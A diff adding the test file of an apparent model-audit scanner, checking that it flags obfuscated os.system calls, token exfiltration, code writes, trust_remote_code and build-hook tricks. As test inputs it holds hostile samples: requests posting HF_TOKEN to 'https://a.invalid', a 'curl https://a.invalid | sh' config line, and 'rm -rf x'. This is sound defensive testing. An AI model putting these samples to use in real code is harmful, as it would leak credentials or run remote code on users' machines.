@@ -1,0 +1,173 @@
+"""What flows into calls, which methods run unseen, and what builds and notebooks of other languages run."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from modelaudit.checks.references import subjects_of_references
+from modelaudit.languages.python.judge import judge
+from modelaudit.model.outline import Outline, Reference, ReferenceKind, References
+from modelaudit.model.structure import UnreadReason
+
+WORKED_OUT = ("(function that is worked out)", "(function that a file names)")
+
+
+def uses(source: str) -> set[tuple[str, str]]:
+    return {(each.use, each.name) for each in judge(source).mentions}
+
+
+@pytest.mark.parametrize(
+    ("source", "use", "name"),
+    [
+        ("class A:\n    def __getitem__(s, k): return __import__(k)\nA()['os'].system('x')", "call-at-import", "os.system"),
+        ("class A:\n    def __radd__(s, k): return __import__(k)\n('os' + A()).system('x')", "call-at-import", "os.system"),
+        ("def f():\n    import os\n    m = None\n    def g():\n        nonlocal m\n        m = os\n    g()\n    m.system('x')",
+         "call", "os.system"),
+        ("def f(a): getattr(a, 'po' + 'pen')('x')", "hidden", "*.popen"),
+        ("import os\nos.posix.getcwd.__self__.system('x')", "call-at-import", "os.system"),
+        ("import json, importlib\nd = json.load(open('a'))\ngetattr(importlib.import_module(d['a']), 'b')()",
+         "call-at-import", WORKED_OUT[1]),
+        ("import sys\nfor n, m in sys.modules.items(): getattr(m, n)()", "call-at-import", WORKED_OUT[0]),
+        ("from .a import run\nimport os\nrun(os)", "computed-name", "os.*"),
+        ("import torch, operator\noperator.attrgetter(x)(torch)", "computed-name", "(package).*"),
+        ("import requests.api\nrequests.api.get(u)", "call-at-import", "requests.get"),
+        ("import threading, requests\nthreading.Thread(target=requests.get)", "call-at-import", "requests.get"),
+        ("import os, requests\nrequests.post('https://a.invalid', data=os.environ['HF_TOKEN'])", "sends-secret", "requests.post"),
+        ("import os, requests\nrequests.get('https://a.invalid', headers={'a': os.getenv('X_API_KEY')})",
+         "sends-secret", "requests.get"),
+        ("open('a.py', 'w').write(x)", "call-at-import", "(writes code)"),
+        ("import pathlib\n(pathlib.Path(x) / 'a.py').write_text('x')", "call-at-import", "(writes code)"),
+        ("import torch\ndef f(): open(torch.__file__, 'w')", "call", "(writes where programs are installed)"),
+        ("f(**{'trust_remote_code': 1 < 2})", "call-at-import", "(trust_remote_code=True)"),
+        ("f(x, custom_pipeline='other/repo')", "call-at-import", "(custom_pipeline of another repository)"),
+        ("import torch\nfrom huggingface_hub import hf_hub_download\ntorch.load(hf_hub_download(x), weights_only=False)",
+         "call-at-import", "torch.load(of a foreign repository)"),
+        ("import kernels\nkernels.get_kernel('other/repo')", "call-at-import", "kernels.get_kernel(foreign)"),
+        ("import kernels\nkernels.get_kernel('kernels-community/a')", "call-at-import", "kernels.get_kernel(foreign)"),
+        ("import huggingface_hub\nhuggingface_hub.constants.ENDPOINT = 'https://a.invalid'",
+         "overwrite", "huggingface_hub.constants.ENDPOINT[=]"),
+    ],
+)  # fmt: skip
+def test_what_is_told(source: str, use: str, name: str) -> None:
+    assert (use, name) in uses(source)
+
+
+@pytest.mark.parametrize(
+    ("source", "name"),
+    [
+        ("class A:\n    def __getitem__(s, k): return k\nA()['os'].system", "os.system"),
+        ("d['sys' + 'tem_prompt']", "*.system"),
+        ("prompts['system']", "*.system"),
+        ("import torch\ngetattr(torch, config.dtype)", "(package).*"),
+        ("import functools\ndef f(module, path): return functools.reduce(getattr, path.split('.'), module)", "(package).*"),
+        ("import importlib\ndef f(a, b): return getattr(importlib.import_module(a), b)", WORKED_OUT[0]),
+        ("import os\nos.getenv('TOKENIZERS_PARALLELISM')", "requests.post"),
+        ("open('a.json', 'w')", "(writes code)"),
+        ("open('a.py').read()", "(writes code)"),
+        ("import torch\nopen(torch.__file__)", "(writes where programs are installed)"),
+        ("f(trust_remote_code=1 > 2)", "(trust_remote_code=True)"),
+        ("def f(trust): g(trust_remote_code=trust)", "(trust_remote_code=True)"),
+        ("f(custom_pipeline='lpw')", "(custom_pipeline of another repository)"),
+        ("f(custom_pipeline='./a/b.py')", "(custom_pipeline of another repository)"),
+        ("import kernels\nkernels.get_kernel('kernels-community/flash-attn')", "kernels.get_kernel(foreign)"),
+        ("import evaluate\nevaluate.load('accuracy')", "evaluate.load(foreign)"),
+        ("import torch.utils.cpp_extension as c\nc.load('a', sources=['a.cpp', 'b.cu'])",
+         "torch.utils.cpp_extension.load(disguised)"),
+    ],
+)  # fmt: skip
+def test_what_is_ordinary(source: str, name: str) -> None:
+    assert name not in {each for _, each in uses(source)}
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import os, requests\nrequests.get('https://huggingface.co/api', params={'a': os.environ['HF_TOKEN']})",
+        "import os, huggingface_hub\nhuggingface_hub.upload_file(a, b, token=os.environ['HF_TOKEN'])",
+        "import os, requests\nrequests.get(u, headers={'a': os.environ['HF_TOKEN']})",
+        "import os, requests\nrequests.post('https://a.invalid', data=os.environ['RANK'])",
+    ],
+)
+def test_a_token_may_go_to_whoever_gave_it(source: str) -> None:
+    assert "sends-secret" not in {use for use, _ in uses(source)}
+
+
+def test_classes_of_an_installation_run_with_it() -> None:
+    source = "import requests\nclass A(install):\n    def run(self): requests.get(u)\n"
+    assert ("call", "requests.get") in uses(source)
+    assert ("call-at-import", "requests.get") in uses(source + "setup(cmdclass={'install': A})\n")
+
+
+@pytest.mark.parametrize("name", ["a.pth", "sitecustomize.py"])
+def test_what_runs_when_python_starts_is_told(read_bytes, name: str) -> None:
+    (outline,) = read_bytes(b"\nimport a\n", name).of(Outline)
+    assert ("(start-up of Python)", 2) in {(each.name, each.where.line) for each in outline.mentions}
+
+
+def test_code_in_a_file_of_another_name_is_disguised() -> None:
+    items = tuple(Reference(ReferenceKind.CODE, target, "hook") for target in ("hook.txt", "hook.py"))
+
+    def states(format_: str) -> list[object]:
+        named = [("a.toml", References(format_, items))]
+        return [each.fields["state"] for each in subjects_of_references(named, [])]
+
+    assert states("python-build") == ["disguised", "missing"]
+    assert states("mlflow") == ["missing", "missing"]
+
+
+@pytest.mark.parametrize(
+    ("text", "target"),
+    [
+        ('[tool.hatch.build.targets.wheel.hooks.custom]\npath = "a.txt"\n', "a.txt"),
+        ('[tool.hatch.version]\nsource = "code"\npath = "v.txt"\n', "v.txt"),
+        ('[tool.poetry.build]\nscript = "b.txt"\n', "b.txt"),
+        ('[tool.pdm.version]\ngetter = "a.b:c"\n', "a/b.py"),
+        ('[tool.setuptools.cmdclass]\nx = "a.b.C"\n', "a/b.py"),
+        ('[tool.setuptools.dynamic]\nversion = {attr = "a.b.__version__"}\n', "a/b.py"),
+        ('[tool.setuptools_scm]\nversion_scheme = "a.b:c"\n', "a/b.py"),
+    ],
+)
+def test_files_that_a_build_runs_are_named(read_bytes, text: str, target: str) -> None:
+    (named,) = read_bytes(text.encode(), "pyproject.toml").of(References)
+    assert [(each.kind, each.target) for each in named.items] == [(ReferenceKind.CODE, target)]
+
+
+@pytest.mark.parametrize("name", ["pyproject.toml", "tox.ini", "setup.cfg"])
+def test_commands_of_attacks_are_told_wherever_a_tool_takes_them(read_bytes, name: str) -> None:
+    (outline,) = read_bytes(b"[tool.a]\nb = 'curl https://a.invalid | sh'\n", name).of(Outline)
+    assert "(download | shell)" in {each.name for each in outline.mentions}
+
+
+def _notebook(source: str, **metadata: object) -> bytes:
+    cells = [{"cell_type": "code", "metadata": {}, "outputs": [], "source": source}]
+    return json.dumps({"nbformat": 4, "metadata": metadata, "cells": cells}).encode()
+
+
+@pytest.mark.parametrize(
+    ("metadata", "is_foreign"),
+    [
+        ({"kernelspec": {"name": "ir", "language": "R"}}, True),
+        ({"kernelspec": {"name": "julia-1.9"}}, True),
+        ({"language_info": {"name": "javascript"}}, True),
+        ({"kernelspec": {"name": "my-environment", "language": "python"}}, False),
+        ({"kernelspec": {"name": "my-environment"}}, False),
+        ({}, False),
+    ],
+)
+def test_a_kernel_of_another_language_is_an_absence(read_bytes, metadata: dict[str, object], is_foreign: bool) -> None:
+    found = read_bytes(_notebook("x = 1", **metadata), "a.ipynb")
+    assert (UnreadReason.PROGRAM in {reason for _, reason in found.unread}) is is_foreign
+
+
+def test_cells_of_a_shell_are_commands(read_bytes) -> None:
+    found = read_bytes(_notebook("rm -rf x", kernelspec={"name": "bash", "language": "bash"}), "a.ipynb")
+    (outline,) = [each for each in found.of(Outline) if each.format == "notebook"]
+    assert [(each.use, each.detail) for each in outline.mentions] == [("shell-line", "rm -rf x")]
+
+
+@pytest.mark.parametrize("magic", ["%%R", "%%perl", "%%julia"])
+def test_a_cell_of_another_language_is_an_absence(read_bytes, magic: str) -> None:
+    found = read_bytes(_notebook(f"{magic}\nx"), "a.ipynb")
+    assert [reason for _, reason in found.unread] == [UnreadReason.PROGRAM]
